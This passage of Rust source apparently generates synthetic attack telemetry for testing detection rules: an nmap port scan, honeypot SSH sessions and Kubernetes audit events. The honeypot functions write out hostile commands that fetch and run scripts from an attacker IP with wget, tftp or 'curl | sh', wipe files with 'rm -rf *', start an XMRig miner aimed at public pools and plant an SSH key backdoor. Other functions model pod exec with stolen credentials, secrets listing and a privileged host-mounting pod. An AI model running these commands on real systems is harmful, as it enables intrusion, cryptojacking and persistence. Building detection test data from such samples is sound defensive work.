    199, 1720, 465, 548, 113, 81, 6001, 10000, 514, 5060, 179, 1026, 2000, 8443, 8000, 32768, 554, 26, 1433, 49152,
    2001, 515, 8008, 49154, 1027, 5666, 646,
];

fn port_scan(sim: &mut Sim, k: u64, t: i64) -> Made {
    let (pod, main, _, _) = victim(sim, k, 4);
    let target_ip = sim.internal_ip();
    let count = sim.rng.range(30, 45) as usize;
    let mut ports: Vec<u16> = TOP_PORTS[..count].to_vec();
    // nmap probes the chosen ports in random order.
    for i in (1..ports.len()).rev() {
        let j = sim.rng.below(i as u64 + 1) as usize;
        ports.swap(i, j);
    }
    let mut tt = Tetra { records: Vec::new() };
    let (uid, cwd) = (main.uid, main.cwd.clone());
    let nmap_args = format!("-sT -Pn -n --top-ports {count} {target_ip}");
    let sh_args = format!("-c \"nmap {nmap_args}\"");
    let sh = sim.spawn(&main, "/bin/sh", Some(&sh_args), uid, &cwd, t);
    tt.exec(sim, &sh, &main);
    let nmap = sim.spawn(&sh, "/usr/bin/nmap", Some(&nmap_args), uid, &cwd, t + 3);
    tt.exec(sim, &nmap, &sh);
    let mut at = t + sim.rng.range(200, 600);
    for port in ports {
        tt.connect(sim, &nmap, &sh, &target_ip, port, at);
        at += sim.rng.range(2, 40);
    }
    tt.exit(sim, &nmap, &sh, at + 300, 0);
    tt.exit(sim, &sh, &main, at + 302, 0);
    Made {
        format: Format::Tetragon,
        actor: sim.world.pods[pod].ip.clone(),
        target: target_ip,
        expected: vec![PORT_SCAN],
        records: tt.records,
    }
}

// ---- Honeypot sessions ------------------------------------------------------------

/// A bot session on the honeypot: connects, logs in (after at most two failures) and
/// types `commands`, each followed by an optional download. Returns the records.
fn honeypot_session(
    sim: &mut Sim,
    ip: &str,
    commands: &[(String, Option<(String, String)>)],
    t: i64,
) -> Vec<(i64, String)> {
    let client = *sim.rng.pick(SSH_CLIENTS);
    let (hassh, algorithms) = *sim.rng.pick(HASSH);
    let failures = sim.rng.range(0, 2) as usize;
    let creds: Vec<(&str, &str)> = (0..=failures).map(|_| *sim.rng.pick(BOT_CREDENTIALS)).collect();
    let gaps: Vec<i64> = (0..commands.len() + failures + 6).map(|_| sim.rng.range(150, 3_000)).collect();
    let subs: Vec<u32> = (0..commands.len() * 2 + failures + 8).map(|_| sim.rng.below(1_000_000) as u32).collect();
    let shas: Vec<String> = commands.iter().map(|_| sim.rng.hex(64)).collect();
    let session = cowrie_session(sim, ip.to_string());
    let (mut out, mut at, mut g, mut s) = (Vec::new(), t, 0, 0);
    let mut next = |gaps: &[i64]| {
        g += 1;
        gaps[g - 1]
    };
    let mut sub = || {
        s += 1;
        subs[s - 1]
    };
    out.push((at, session.connect(at, sub())));
    at += next(&gaps);
    out.push((at, session.client_version(at, sub(), client)));
    at += 2;
    out.push((at, session.client_kex(at, sub(), hassh, algorithms)));
    for (i, (user, password)) in creds.iter().enumerate() {
        at += next(&gaps);
        out.push((at, session.login(at, sub(), user, password, i == failures)));
    }
    at += 10;
    out.push((at, session.session_params(at, sub(), "linux-x64-lsb")));
    for (i, (command, download)) in commands.iter().enumerate() {
        at += next(&gaps);
        out.push((at, session.command(at, sub(), command)));
        if let Some((url, destfile)) = download {
            at += next(&gaps);
            out.push((at, session.file_download(at, sub(), url, &shas[i], destfile)));
        }
    }
    at += next(&gaps);
    out.push((at, session.closed(at, sub(), at - t)));
    out
}

const RECON_COMMANDS: &[&str] = &[
    "uname -s -v -n -r -m",
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "nproc",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "lscpu | grep Model",
    "whoami",
];

fn honeypot_download_exec(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let recon = sim.rng.pick(RECON_COMMANDS).to_string();
    let loader = if k % 2 == 0 {
        (
            format!("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{ip}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp {ip} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *"),
            Some((format!("http://{ip}/bins.sh"), "/tmp/bins.sh".to_string())),
        )
    } else {
        (format!("curl -fsSL http://{ip}/cr.sh | sh"), Some((format!("http://{ip}/cr.sh"), "/root/cr.sh".to_string())))
    };
    let records = honeypot_session(sim, &ip, &[(recon, None), loader], t);
    Made {
        format: Format::Cowrie,
        actor: ip,
        target: sim.world.sensor.name.clone(),
        expected: vec![COWRIE_DOWNLOAD_EXECUTE, COWRIE_RECON],
        records,
    }
}

fn honeypot_cryptominer(sim: &mut Sim, _k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let pool = *sim.rng.pick(&[
        "pool.supportxmr.com:443",
        "gulf.moneroocean.stream:10128",
        "xmr-eu1.nanopool.org:14433",
        "pool.hashvault.pro:443",
    ]);
    let wallet = format!("4{}", sim.rng.chars("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 94));
    let commands = [
        ("cat /proc/cpuinfo | grep name | wc -l".to_string(), None),
        (
            format!("cd /tmp; wget -q http://{ip}/xmrig.tar.gz; tar xzf xmrig.tar.gz; cd xmrig-6.21.0; ./xmrig -o {pool} -u {wallet} -k --tls -p x &"),
            Some((format!("http://{ip}/xmrig.tar.gz"), "/tmp/xmrig.tar.gz".to_string())),
        ),
    ];
    let records = honeypot_session(sim, &ip, &commands, t);
    Made {
        format: Format::Cowrie,
        actor: ip,
        target: sim.world.sensor.name.clone(),
        expected: vec![COWRIE_CRYPTOMINER, COWRIE_DOWNLOAD_EXECUTE, COWRIE_RECON],
        records,
    }
}

fn honeypot_persistence(sim: &mut Sim, _k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let key = sim.rng.chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 368);
    let commands = [
        ("cd ~; chattr -ia .ssh; lockr -ia .ssh".to_string(), None),
        (
            format!("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{key}== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"),
            None,
        ),
        ("cat /proc/cpuinfo | grep name | wc -l".to_string(), None),
        ("uname -a".to_string(), None),
        ("crontab -l".to_string(), None),
        ("w".to_string(), None),
    ];
    let records = honeypot_session(sim, &ip, &commands, t);
    Made {
        format: Format::Cowrie,
        actor: ip,
        target: sim.world.sensor.name.clone(),
        expected: vec![COWRIE_PERSISTENCE, COWRIE_RECON],
        records,
    }
}

// ---- Kubernetes audit -------------------------------------------------------------

/// Credentials an attacker stole: (user name, groups, user agent).
fn stolen_identity(k: u64) -> (&'static str, &'static [&'static str], &'static str) {
    if k % 2 == 0 {
        ("dev-contractor@acme-shop.example", &["developers", "system:authenticated"], KUBECTL_UA)
    } else {
        (
            "system:serviceaccount:ci:gitlab-runner",
            &["system:serviceaccounts", "system:serviceaccounts:ci", "system:authenticated"],
            "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225",
        )
    }
}

fn audit_base<'a>(user: &'a str, groups: &'a [&'a str], source_ip: &'a str, user_agent: &'a str) -> AuditEvent<'a> {
    AuditEvent {
        level: "Metadata",
        stage: "ResponseComplete",
        request_uri: String::new(),
        verb: "get",
        username: user,
        groups,
        source_ip,
        user_agent,
        resource: "pods",
        subresource: None,
        namespace: None,
        name: None,
        api_group: "",
        api_version: "v1",
        code: 200,
        request_object: None,
        reason: String::new(),
    }
}

fn k8s_exec_into_pod(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let (user, groups, ua) = stolen_identity(k);
    let (pod_index, _, _, target) = victim(sim, k, 0);
    let pod = sim.world.pods[pod_index].clone();
    let ns = pod.workload.namespace;
    let reason =
        "RBAC: allowed by ClusterRoleBinding \"developers-edit\" of ClusterRole \"edit\" to Group \"developers\""
            .to_string();
    let ids: Vec<String> = (0..3).map(|_| sim.rng.uuid()).collect();
    let subs: Vec<u32> = (0..3).map(|_| sim.rng.below(1_000_000) as u32).collect();
    let mut records = Vec::new();
    let mut list = audit_base(user, groups, &ip, ua);
    list.verb = "list";
    list.request_uri = format!("/api/v1/namespaces/{ns}/pods?limit=500");
    list.namespace = Some(ns);
    list.reason = reason.clone();
    records.push((t, list.line(&ids[0], t, subs[0], 12)));
    let at = t + sim.rng.range(3_000, 20_000);
    let mut get = audit_base(user, groups, &ip, ua);
    get.request_uri = format!("/api/v1/namespaces/{ns}/pods/{}", pod.name);
    get.namespace = Some(ns);
    get.name = Some(&pod.name);
    get.reason = reason.clone();
    records.push((at, get.line(&ids[1], at, subs[1], 6)));
    let mut exec = audit_base(user, groups, &ip, ua);
    exec.verb = "create";
    exec.stage = "ResponseStarted";
    exec.request_uri = format!(
        "/api/v1/namespaces/{ns}/pods/{}/exec?command=%2Fbin%2Fsh&container={}&stdin=true&stdout=true&tty=true",
        pod.name, pod.workload.container
    );
    exec.namespace = Some(ns);
    exec.name = Some(&pod.name);
    exec.subresource = Some("exec");
    exec.code = 101;
    exec.reason = reason;
    records.push((at + 40, exec.line(&ids[2], at + 40, subs[2], 30)));
    Made { format: Format::K8sAudit, actor: user.to_string(), target, expected: vec![K8S_POD_EXEC], records }
}

fn k8s_secrets_access(sim: &mut Sim, k: u64, t: i64) -> Made {
    let (pod_index, _, _, target) = victim(sim, k, 1);
    let pod = sim.world.pods[pod_index].clone();
    let ns = pod.workload.namespace;
    let user = format!("system:serviceaccount:{ns}:{}", pod.workload.service_account);
    let ns_group = format!("system:serviceaccounts:{ns}");
    let groups = ["system:serviceaccounts", ns_group.as_str(), "system:authenticated"];
    let ua = if k % 2 == 0 { "curl/8.5.0" } else { "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225" };
    let ids: Vec<String> = (0..2).map(|_| sim.rng.uuid()).collect();
    let subs: Vec<u32> = (0..2).map(|_| sim.rng.below(1_000_000) as u32).collect();
    let mut records = Vec::new();
    // Cluster-wide first (refused), then the pod's own namespace (allowed).
    let mut all = audit_base(&user, &groups, &pod.ip, ua);
    all.verb = "list";
    all.request_uri = "/api/v1/secrets?limit=500".into();
    all.resource = "secrets";
    all.code = 403;
    records.push((t, all.line(&ids[0], t, subs[0], 3)));
    let at = t + sim.rng.range(2_000, 15_000);
    let mut own = audit_base(&user, &groups, &pod.ip, ua);
    own.verb = "list";
    own.request_uri = format!("/api/v1/namespaces/{ns}/secrets?limit=500");
    own.resource = "secrets";
    own.namespace = Some(ns);
    own.reason = format!(
        "RBAC: allowed by RoleBinding \"{sa}-config/{ns}\" of Role \"{sa}-config\" to ServiceAccount \"{sa}/{ns}\"",
        sa = pod.workload.service_account
    );
    records.push((at, own.line(&ids[1], at, subs[1], 9)));
    Made { format: Format::K8sAudit, actor: user, target, expected: vec![K8S_SECRETS_READ], records }
}

fn k8s_privileged_pod(sim: &mut Sim, k: u64, t: i64) -> Made {
    let ip = sim.attacker_ip();
    let (user, groups, ua) = stolen_identity(k);
    let name = format!("node-debugger-{}", sim.rng.chars(K8S_SUFFIX, 5));
    let mut spec = Obj::new().bool("hostPID", true).bool("hostNetwork", true);
    if k % 2 == 0 {
        spec = spec.bool("hostIPC", true);
    }
    let spec = spec
        .objs(
            "containers",
            vec![Obj::new()
                .str("name", "debugger")
                .str("image", "docker.io/library/ubuntu:22.04")
                .strs("command", &["/bin/sh", "-c", "sleep infinity"])
                .obj("securityContext", Obj::new().bool("privileged", true))
                .objs("volumeMounts", vec![Obj::new().str("name", "host").str("mountPath", "/host")])],
        )
        .objs(
            "volumes",
            vec![Obj::new().str("name", "host").obj("hostPath", Obj::new().str("path", "/").str("type", ""))],
        )
        .str("restartPolicy", "Never");
    let body = Obj::new()
        .str("kind", "Pod")
        .str("apiVersion", "v1")
        .obj(
            "metadata",
            Obj::new().str("name", &name).str("namespace", "default").obj("labels", Obj::new().str("run", &name)),
        )
        .obj("spec", spec)
        .finish();
    let ids: Vec<String> = (0..2).map(|_| sim.rng.uuid()).collect();
    let subs: Vec<u32> = (0..2).map(|_| sim.rng.below(1_000_000) as u32).collect();
    let reason =
        "RBAC: allowed by ClusterRoleBinding \"developers-edit\" of ClusterRole \"edit\" to Group \"developers\""
            .to_string();
    let mut create = audit_base(user, groups, &ip, ua);
    create.level = "Request";
    create.verb = "create";
    create.request_uri = "/api/v1/namespaces/default/pods?fieldManager=kubectl-run".into();
    create.namespace = Some("default");
    create.code = 201;
    create.request_object = Some(body);
    create.reason = reason.clone();
    let mut records = vec![(t, create.line(&ids[0], t, subs[0], 25))];
    let at = t + sim.rng.range(1_000, 5_000);
    let mut get = audit_base(user, groups, &ip, ua);
    get.request_uri = format!("/api/v1/namespaces/default/pods/{name}");
    get.namespace = Some("default");
    get.name = Some(&name);
    get.reason = reason;
    records.push((at, get.line(&ids[1], at, subs[1], 5)));
    Made {
        format: Format::K8sAudit,
        actor: user.to_string(),
        target: format!("default/{name}"),
        expected: vec![K8S_PRIVILEGED_POD],
        records,
    }
}
